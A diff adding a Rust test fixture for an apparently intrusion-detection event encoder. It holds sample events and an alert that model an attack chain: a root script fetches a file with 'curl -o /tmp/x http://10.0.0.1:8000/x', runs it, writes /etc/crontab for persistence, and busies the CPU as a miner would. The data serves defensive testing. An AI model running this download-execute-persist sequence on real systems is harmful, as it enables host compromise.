@@ -1,0 +1,421 @@
+//! One of everything that can be encoded, for the tests of this crate.
+
+use std::{borrow::Cow, net::SocketAddr, sync::Arc, time::Duration};
+
+use super::{Encoder, HostContext, Observed, SignalText};
+use crate::model::{
+    Alert, AlertAction, AppData, BootTime, Bytes, ChainEdge, ChainKind, Close, Connect, Container,
+    ContainerRuntime, ControlRegister, CpuQuota, CpuUsage, Credentials, DeviceOpen, Direction, DnsAnswer,
+    DnsData, DnsRecord, Event, EventBody, Exec, Executable, ExecutableFlags, Exit, FileAction, FileChange,
+    FileId, Flow, FlowUpdate, Fork, GeoLocation, HashedFile, Health, HugePages, IncidentId, Mapping,
+    MappingClass, Namespaces, Payload, ProcessKey, ProcessView, Protocol, Rounding, RoundingCounts,
+    RunningFlow, RunningProcess, SchedulingPolicy, Signal, SignalClass, SignalId, Subject, TlsHello, Verdict,
+    WallClock,
+};
+
+/// 2026-11-22T22:00:00Z.
+const BOOT: i128 = 1_795_384_800_000_000_000;
+
+pub(crate) fn encoder() -> Encoder {
+    let host = HostContext {
+        name: "web-1".into(),
+        boot_id: "5e0b6d2a-6c0e-4d0e-9a55-3f1d6a1c2b3d".into(),
+        clock: WallClock { boot: BOOT },
+    };
+    Encoder::new(host, |signal| match signal.0.as_ref() {
+        "B2" => Some(SignalText { name: "file written, then run", techniques: &["T1105", "T1059.004"] }),
+        "C5" => Some(SignalText { name: "half the cores busy", techniques: &["T1496.001"] }),
+        _ => None,
+    })
+}
+
+/// Milliseconds after 23:14:05.
+fn at(milliseconds: u64) -> BootTime {
+    BootTime((4_445_000 + milliseconds) * 1_000_000)
+}
+
+pub(crate) fn key(pid: u32) -> ProcessKey {
+    ProcessKey::from_ticks(pid, 444_400 + u64::from(pid % 100))
+}
+
+fn arguments(words: &[&str]) -> Arc<[Arc<str>]> {
+    words.iter().map(|word| Arc::from(*word)).collect()
+}
+
+fn container() -> Arc<Container> {
+    Arc::new(Container {
+        cgroup: "/kubepods/burstable/pod0f6e/4f3c2b1a".into(),
+        id: Some("4f3c2b1a9d8e7f60514233241506f7e8d9cabb0c1d2e3f405162738495a6b7c8".into()),
+        runtime: Some(ContainerRuntime::Containerd),
+        pod_uid: Some("0f6e4a1c-7a43-4a57-8a3f-1d2c3b4a5968".into()),
+        unit: Some("kubelet.service".into()),
+    })
+}
+
+fn credentials() -> Credentials {
+    Credentials { uid: 0, gid: 0, user: Some("root".into()), capabilities: 1 << 21 }
+}
+
+pub(crate) fn bash() -> ProcessView {
+    ProcessView {
+        key: key(4700),
+        name: "bash".into(),
+        executable: Executable {
+            path: "/usr/bin/bash".into(),
+            file: Some(FileId { device: 8 << 20 | 1, inode: 4242 }),
+            flags: ExecutableFlags::default(),
+        },
+        arguments: arguments(&["bash", "/root/run.sh"]),
+        directory: "/root".into(),
+        credentials: credentials(),
+        container: Some(container()),
+        sha256: Some("0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef".into()),
+    }
+}
+
+pub(crate) fn curl() -> ProcessView {
+    ProcessView {
+        key: key(4711),
+        name: "curl".into(),
+        executable: Executable {
+            path: "/usr/bin/curl".into(),
+            file: Some(FileId { device: 8 << 20 | 1, inode: 4711 }),
+            flags: ExecutableFlags { memfd: true, deleted: true },
+        },
+        arguments: arguments(&["curl", "-o", "/tmp/x", "http://10.0.0.1:8000/x y"]),
+        ..bash()
+    }
+}
+
+pub(crate) fn event(time: BootTime, body: EventBody) -> Event {
+    let subject =
+        Subject { key: key(4711), tid: 4712, uid: 0, gid: 0, cgroup: 77, container: Some(container()) };
+    Event { time, subject, body }
+}
+
+fn flow(protocol: Protocol, source: &str, destination: &str) -> Flow {
+    let address = |text: &str| -> SocketAddr { text.parse().unwrap() };
+    Flow { protocol, source: address(source), destination: address(destination), opened: at(200) }
+}
+
+fn change(action: FileAction, path: &str) -> FileChange {
+    FileChange {
+        action,
+        path: path.into(),
+        old_path: None,
+        file: Some(FileId { device: 8 << 20 | 1, inode: 131_072 }),
+        mode: 0o100_644,
+        device: None,
+    }
+}
+
+fn place() -> GeoLocation {
+    GeoLocation {
+        country: Some("NL".into()),
+        as_number: Some(64_500),
+        as_organization: Some("Example Networks".into()),
+        foreign: true,
+    }
+}
+
+/// One event of each kind and of each variant that shows differently, with the file of its snapshots.
+#[expect(clippy::too_many_lines, reason = "a table")]
+pub(crate) fn events() -> Vec<(&'static str, Event)> {
+    let tcp = flow(Protocol::Tcp, "10.0.0.2:40000", "10.0.0.1:8000");
+    let udp = flow(Protocol::Udp, "[fd00::2]:0", "[fd00::1]:53");
+    let connect = |flow, result| {
+        EventBody::Connect(Connect { flow, result, network_namespace: 4_026_531_840, peer: None })
+    };
+    let peer = || Some(Box::new(place()));
+    let close = |flow, bytes: Option<_>| {
+        let segments = bytes.map(|_| (3, 850));
+        let (first_payload, last_payload) = (bytes.map(|_| at(205)), bytes.map(|_| at(280)));
+        let network_namespace = 0;
+        EventBody::Close(Close {
+            flow,
+            bytes,
+            segments,
+            first_payload,
+            last_payload,
+            network_namespace,
+            peer: peer(),
+        })
+    };
+    let exec = Exec {
+        parent: key(4700),
+        executable: curl().executable,
+        invoked: "/usr/bin/curl".into(),
+        name: "curl".into(),
+        arguments: curl().arguments,
+        arguments_cut: true,
+        directory: "/root".into(),
+        credentials: credentials(),
+        capabilities_gained: 1 << 12 | 1 << 21,
+        namespaces: Namespaces { mount: 1, pid: 2, network: 3, user: 4 },
+        session: 4700,
+    };
+    let running = RunningProcess {
+        parent: Some(key(4700)),
+        executable: exec.executable.clone(),
+        name: "curl".into(),
+        arguments: exec.arguments.clone(),
+        directory: "/root".into(),
+        credentials: credentials(),
+        namespaces: exec.namespaces,
+        session: 4700,
+        kernel_thread: false,
+    };
+    let thread = RunningProcess {
+        parent: None,
+        executable: Executable { path: "".into(), file: None, flags: ExecutableFlags::default() },
+        name: "kswapd0".into(),
+        arguments: arguments(&[]),
+        directory: "".into(),
+        credentials: Credentials::default(),
+        namespaces: Namespaces::default(),
+        session: 0,
+        kernel_thread: true,
+    };
+    let renamed = FileChange { old_path: Some("/tmp/x.part".into()), ..change(FileAction::Rename, "/tmp/x") };
+    let device = FileChange {
+        mode: 0o020_600,
+        device: Some(DeviceOpen { major: 202, minor: 3, writable: true, result: 1 }),
+        ..change(FileAction::DeviceOpen, "/dev/cpu/3/msr")
+    };
+    let running_flow =
+        RunningFlow { protocol: tcp.protocol, source: tcp.source, destination: tcp.destination, peer: None };
+    let usage = CpuUsage {
+        window: 1_000_000_000,
+        on_cpu: 1_875_000_000,
+        total_on_cpu: 60_000_000_000,
+        voluntary: 12,
+        involuntary: 345,
+        threads: 2,
+        nice: -5,
+        yields: 6,
+        stops: 7,
+        policy: SchedulingPolicy::Idle,
+        allowed_processors: 2,
+    };
+    let hash = HashedFile { file: FileId { device: 1, inode: 2 }, sha256: "ab".into() };
+    let dataset = Mapping { class: MappingClass::Dataset, size: 2_181_038_080, count: 1, huge: true };
+    let pool = HugePages { path: "/proc/sys/vm/nr_hugepages".into(), before: 0, after: 1168 };
+    let exit = |code, signal| EventBody::Exit(Exit { code, signal, on_cpu: 12_345_678 });
+    [
+        ("fork", EventBody::Fork(Fork { parent: key(4700), name: "bash".into() })),
+        ("exec", EventBody::Exec(Box::new(exec))),
+        ("exit", exit(Some(7), None)),
+        ("exit-by-signal", exit(None, Some(9))),
+        ("connect", connect(tcp, 0)),
+        ("connect-unanswered", connect(tcp, 115)),
+        ("connect-refused", connect(udp, 111)),
+        ("connect-odd-error", connect(tcp, 4_000)),
+        ("close", close(tcp, Some((517, 1_234_567)))),
+        ("close-uncounted", close(udp, None)),
+        ("file-write", EventBody::File(Box::new(change(FileAction::Write, "/etc/crontab")))),
+        ("file-create", EventBody::File(Box::new(change(FileAction::Create, "/tmp/x.part")))),
+        ("file-rename", EventBody::File(Box::new(renamed))),
+        ("file-delete", EventBody::File(Box::new(change(FileAction::Delete, "/tmp/x")))),
+        (
+            "file-chmod",
+            EventBody::File(Box::new(FileChange { mode: 0o104_755, ..change(FileAction::Chmod, "/tmp/x") })),
+        ),
+        ("device-open", EventBody::File(Box::new(device))),
+        ("cpu", EventBody::Cpu(usage)),
+        ("running", EventBody::RunningProcess(Box::new(running))),
+        ("running-kernel-thread", EventBody::RunningProcess(Box::new(thread))),
+        ("connection-running", EventBody::RunningFlow(running_flow)),
+        ("rounding", EventBody::Rounding(rounding())),
+        ("memory-map", EventBody::Mapping(dataset)),
+        ("huge-pages", EventBody::HugePages(pool)),
+        ("hash", EventBody::HashedFile(hash)),
+        ("tls", EventBody::Payload(Box::new(hello(tcp)))),
+        ("dns", EventBody::Payload(Box::new(hello(udp)))),
+        (
+            "flow",
+            EventBody::FlowUpdate(Box::new(FlowUpdate {
+                flow: tcp,
+                accepted: false,
+                interval: true,
+                first: tcp.opened,
+                bytes: (2_048, 8_192),
+                payloads: (9, 17),
+                samples: Box::default(),
+            })),
+        ),
+        ("cpu-quota", EventBody::Quota(Box::new(quota()))),
+    ]
+    .into_iter()
+    .zip(0..)
+    .map(|((name, body), index)| (name, event(at(123 + 200 * index), body)))
+    .collect()
+}
+
+/// A process that always takes the half of a processor that it may take.
+fn quota() -> CpuQuota {
+    CpuQuota {
+        cgroup: "/kubepods/pod1".into(),
+        quota: 50_000,
+        period: 100_000,
+        window: 10_000_000_000,
+        periods: 100,
+        throttled: 97,
+        throttled_time: 4_900_000_000,
+        on_cpu: 4_800_000_000,
+    }
+}
+
+/// A process that hashes a third of its time.
+fn rounding() -> Rounding {
+    Rounding {
+        register: ControlRegister::Mxcsr,
+        flushing: RoundingCounts { nearest: 40, down: 11, up: 12, zero: 13 },
+        plain: RoundingCounts { nearest: 7, down: 0, up: 0, zero: 0 },
+    }
+}
+
+/// An alert with all there is to say.
+pub(crate) fn alert() -> Alert {
+    let edge = |kind, time, pid, name: &str, parent: Option<u32>, object: &str| ChainEdge {
+        kind,
+        at: at(time),
+        process: key(pid),
+        name: name.into(),
+        parent: parent.map(key),
+        object: object.into(),
+    };
+    let signal = |id, class, weight, time, pid, detail: &str, evidence: &[(&'static str, &str)]| Signal {
+        id: SignalId::known(id),
+        class,
+        weight,
+        at: at(time),
+        process: key(pid),
+        detail: detail.into(),
+        evidence: evidence.iter().map(|(name, value)| (Cow::Borrowed(*name), (*value).to_owned())).collect(),
+        last: at(time + 100),
+        conclusive: id == "Z9",
+    };
+    Alert {
+        incident: IncidentId { origin: key(4700), opened: at(900) },
+        action: AlertAction::IncidentOpened,
+        time: at(1_001),
+        verdict: Verdict::Suspected,
+        score: 85,
+        suspect: ProcessView { key: key(4713), name: "x".into(), ..curl() },
+        parent: Some(bash()),
+        container: Some(container()),
+        signals: vec![
+            signal(
+                "B2",
+                SignalClass::Behavior,
+                25,
+                900,
+                4713,
+                "/tmp/x was written by curl and run 0.7 s later",
+                &[("file.path", "/tmp/x"), ("writer", "curl"), ("writer", "sh")],
+            ),
+            signal(
+                "C5",
+                SignalClass::Compute,
+                15,
+                1_000,
+                4713,
+                "2 threads at 100 % of 2 cores for 60 s",
+                &[],
+            ),
+            signal(
+                "Z9",
+                SignalClass::Network,
+                5,
+                1_001,
+                4711,
+                "unknown to the catalogue",
+                &[
+                    ("destination", "203.0.113.9:443"),
+                    ("destination_country", "NL"),
+                    ("destination_as_number", "64500"),
+                    ("destination_as_organization", "Example Networks"),
+                ],
+            ),
+        ],
+        chain: vec![
+            edge(ChainKind::Create, 123, 4700, "bash", None, "bash /root/run.sh"),
+            edge(ChainKind::Create, 150, 4711, "curl", Some(4700), "curl -o /tmp/x http://10.0.0.1:8000/x"),
+            edge(ChainKind::Connect, 200, 4711, "curl", Some(4700), "tcp 10.0.0.1:8000"),
+            edge(ChainKind::Drop, 400, 4711, "curl", Some(4700), "/tmp/x"),
+            edge(ChainKind::Create, 900, 4713, "x", Some(4700), "/tmp/x"),
+            edge(ChainKind::Persist, 1_001, 4700, "bash", None, "/etc/crontab"),
+        ],
+        message: "'x' was downloaded, run and made to come back".into(),
+        folded: 3,
+        latency: Duration::from_micros(2_500),
+        health: Health {
+            lost: vec![("file".into(), 12)],
+            blind: vec!["rounding".into()],
+            hooks: [("exec".into(), "raw-tracepoint".into())].into(),
+        },
+    }
+}
+
+/// An answer by way of another name.
+fn resolved() -> DnsAnswer {
+    let record = |kind, data| DnsRecord { kind, ttl: 300, data };
+    DnsAnswer {
+        question: "files.example".into(),
+        question_type: 1,
+        code: 0,
+        records: vec![
+            record(5, DnsData::Name("cdn.example".into())),
+            record(1, DnsData::Address([192, 0, 2, 7].into())),
+        ],
+    }
+}
+
+fn hello(flow: Flow) -> Payload {
+    Payload {
+        flow,
+        direction: Direction::Sent,
+        index: 0,
+        length: 517,
+        accepted: false,
+        bytes: Bytes([0x16, 3, 1, 2, 0, 1].into()),
+    }
+}
+
+/// The lines of all of them: name and JSON without its newline.
+pub(crate) fn lines() -> Vec<(&'static str, String)> {
+    let encoder = encoder();
+    let (curl, bash) = (curl(), bash());
+    let mut lines = Vec::new();
+    let dns = AppData::Dns(resolved());
+    let tls = AppData::Tls(TlsHello {
+        server_name: Some("files.example".into()),
+        protocols: vec!["h2".into(), "http/1.1".into()],
+        ja4: Some("t13d1516h2_8daaf6152771_e5627efa2ab1".into()),
+    });
+    for ((name, event), sequence) in events().into_iter().zip(1..) {
+        let domain = matches!(name, "connect" | "close" | "tls" | "flow").then_some("files.example");
+        let said = match name {
+            "tls" => Some(&tls),
+            "dns" => Some(&dns),
+            _ => None,
+        };
+        let observed =
+            Observed { event: &event, process: Some(&curl), parent: Some(&bash), domain, said, sequence };
+        let mut line = Vec::new();
+        if encoder.event(&observed, &mut line) {
+            lines.push((name, text(line)));
+        }
+    }
+    let mut line = Vec::new();
+    encoder.alert(&alert(), 99, &mut line);
+    lines.push(("alert", text(line)));
+    lines
+}
+
+fn text(line: Vec<u8>) -> String {
+    let line = String::from_utf8(line).unwrap();
+    let inner = line.strip_suffix('\n').unwrap();
+    assert!(!inner.contains('\n'), "one object, one line: {inner}");
+    inner.to_owned()
+}
